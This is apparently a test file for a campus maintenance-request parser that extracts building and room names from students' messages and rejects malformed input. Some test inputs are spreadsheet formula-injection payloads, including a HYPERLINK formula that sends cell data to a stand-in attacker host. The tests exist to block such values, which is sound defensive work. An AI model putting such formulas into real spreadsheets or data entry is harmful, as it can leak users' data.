import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkPlace, MAX_PLACE } from '../../core/buildings.js';
import { extractLocation } from '../../nlu/slots/location.js';
import { isRoomNumber, needsRoom, readPlace, whereIn } from './intake.place.js';

/** The building-and-room step as intake runs it: the real slot extractor with shared spots, then the reader. */
const read = (text: string, have: { building?: string; room?: string } = {}) => readPlace(text, whereIn(text, extractLocation(text)), have);
const where = (text: string) => whereIn(text, extractLocation(text));
const FORMULA = /^[=+\-@＝＋－＠\t\r]/u;

describe('checkPlace', () => {
  it.each([
    ['3号楼', '3号楼'], ['Building 7', '7号楼'], ['逸夫楼', '逸夫楼'], ['Maple Hall', 'Maple Hall'], ['东区 B座', '东区B栋'],
    ['学生活动中心', '学生活动中心'], ["St. Mary's Hall", "St. Mary's Hall"], ['10', '10'],
  ])('%j is the place %j', (raw, building) => {
    expect(checkPlace(raw)).toEqual({ ok: true, building });
  });

  it.each([
    ['=HYPERLINK("http://evil.example","click")', 'not_a_place'], ['+1-2', 'not_a_place'], ['@SUM(A1:A9)', 'not_a_place'], ['-3号楼', 'not_a_place'],
    ['我也不知道是哪栋', 'not_a_place'], ['在哪里？', 'not_a_place'], ['I really do not know where it is', 'not_a_place'], ['🔥🔥', 'not_a_place'],
    ['3号楼\n=cmd', 'not_a_place'], ['', 'not_a_place'], ['图'.repeat(41), 'too_long'], ['=A1'.repeat(1400), 'too_long'],
  ])('%j is not a place (%s)', (raw, problem) => {
    expect(checkPlace(raw)).toEqual({ ok: false, problem });
  });

  it('accepts only short names that start with a letter or digit, and accepts them again as they are (property)', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme', maxLength: 120 }), (s) => {
      const c = checkPlace(s);
      if (!c.ok) return;
      expect([...c.building].length).toBeLessThanOrEqual(MAX_PLACE);
      expect(c.building).toMatch(/^[\p{L}\p{N}]/u);
      expect(c.building).not.toMatch(/[\n\r\t\p{Cc}]/u);
      expect(checkPlace(c.building)).toEqual(c);
    }), { numRuns: 2000 });
  });

  it('never accepts formula-looking text (property)', () => {
    fc.assert(fc.property(fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠'), fc.string({ maxLength: 60 }), (first, rest) => {
      expect(checkPlace(`${first}${rest}`).ok).toBe(false);
    }), { numRuns: 1000 });
  });
});

describe('readPlace at the building-and-room step', () => {
  it.each([
    ['3号楼502', {}, { building: '3号楼', room: '502' }],
    ['Building 7 room 215', {}, { building: '7号楼', room: '215' }],
    ['东区7栋312', {}, { building: '东区7号楼', room: '312' }],
    ['逸夫楼 302', {}, { building: '逸夫楼', room: '302' }],
    ['图书馆', {}, { building: '图书馆', room: '-' }],
    ['502', { building: '3号楼' }, { building: '3号楼', room: '502' }],
    ['room 215', { building: '7号楼' }, { building: '7号楼', room: '215' }],
    ['3号楼', { room: '412' }, { building: '3号楼', room: '412' }],
    ['502', {}, { problem: 'which_building', room: '502' }],
    ['=HYPERLINK("http://evil.example/?"&A1,"详情")', {}, { problem: 'not_a_place' }],
    ['不知道，就是宿舍，你们来看看吧', {}, { problem: 'not_a_place' }],
    [`=${'1+'.repeat(2000)}1`, {}, { problem: 'too_long' }],
  ] as const)('%j with %j → %j', (text, have, expected) => {
    expect(read(text, have)).toEqual(expected);
  });

  it('stores a building and a room or gives a reason, for any text (property)', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme', maxLength: 200 }), fc.option(fc.constantFrom('3号楼', '逸夫楼'), { nil: undefined }), (s, building) => {
      const r = read(s, building ? { building } : {});
      if ('problem' in r) {
        expect(['too_long', 'not_a_place', 'which_building']).toContain(r.problem);
        return;
      }
      expect(checkPlace(r.building)).toEqual({ ok: true, building: r.building });
      expect(r.building).not.toMatch(FORMULA);
      if (r.room !== '-' && !isRoomNumber(r.room)) expect(s.normalize('NFKC').replace(/\s+/gu, ' ')).toContain(r.room); // a spot, in the student's words
    }), { numRuns: 2000 });
  });

  it('reads every spelling of a numbered building and room the same way (property)', () => {
    const forms = (n: number, room: number) => [`${n}号楼${room}`, `${n}栋 ${room}`, `Building ${n} room ${room}`, `bldg ${n} rm ${room}`, `${n}号楼${room}室`];
    fc.assert(fc.property(fc.integer({ min: 1, max: 99 }), fc.integer({ min: 100, max: 9999 }), (n, room) => {
      for (const text of forms(n, room)) expect(read(text)).toEqual({ building: `${n}号楼`, room: String(room) });
    }), { numRuns: 300 });
  });
});

describe('places without rooms', () => {
  it.each([
    ['食堂的灯坏了', { building: '食堂' }],
    ['二食堂的饮水机坏了', { building: '二食堂' }],
    ['三楼走廊的灯坏了', { room: '三楼走廊' }],
    ['3号楼楼梯的灯不亮', { building: '3号楼', room: '楼梯' }],
    ['3号楼 2楼走廊 灯坏了', { building: '3号楼', room: '2楼走廊' }],
    ['3号楼502的灯坏了', { building: '3号楼', room: '502' }],
    ['东门口的路灯坏了', {}],
    ['路灯坏了', {}],
    ['the light in the canteen is broken', { building: 'canteen' }],
    ['the lobby light of Building 3 is out', { building: 'Building 3', room: 'lobby' }],
    ['另外3号楼502的窗户也坏了', { building: '3号楼', room: '502' }],
  ])('%j is at %j', (text, expected) => {
    expect(where(text)).toEqual(expected);
  });

  it('asks for a room only in residences and teaching buildings', () => {
    for (const b of ['3号楼', '东区7栋', 'Building 7', '10', '研究生公寓', '教学楼']) expect(needsRoom(b)).toBe(true);
    for (const b of ['食堂', '二食堂', '图书馆', '体育馆', '东门口', 'canteen', 'Maple Hall']) expect(needsRoom(b)).toBe(false);
  });

  it.each([
    ['走廊', { building: '3号楼' }, { building: '3号楼', room: '走廊' }],
    ['三楼走廊', {}, { problem: 'which_building', room: '三楼走廊' }],
    ['3号楼', { room: '三楼走廊' }, { building: '3号楼', room: '三楼走廊' }],
    ['3号楼三楼走廊', {}, { building: '3号楼', room: '三楼走廊' }],
    ['东门口', {}, { building: '东门口', room: '-' }],
    ['整栋楼', { building: '3号楼' }, { building: '3号楼', room: '整栋楼' }],
    ['the whole building', { building: '7号楼' }, { building: '7号楼', room: 'the whole building' }],
    ['逸夫楼 302', { building: '3号楼' }, { building: '逸夫楼', room: '302' }],
    ['一食堂', {}, { building: '一食堂', room: '-' }],
  ] as const)('at the place step %j with %j → %j', (text, have, expected) => {
    expect(read(text, have)).toEqual(expected);
  });
});
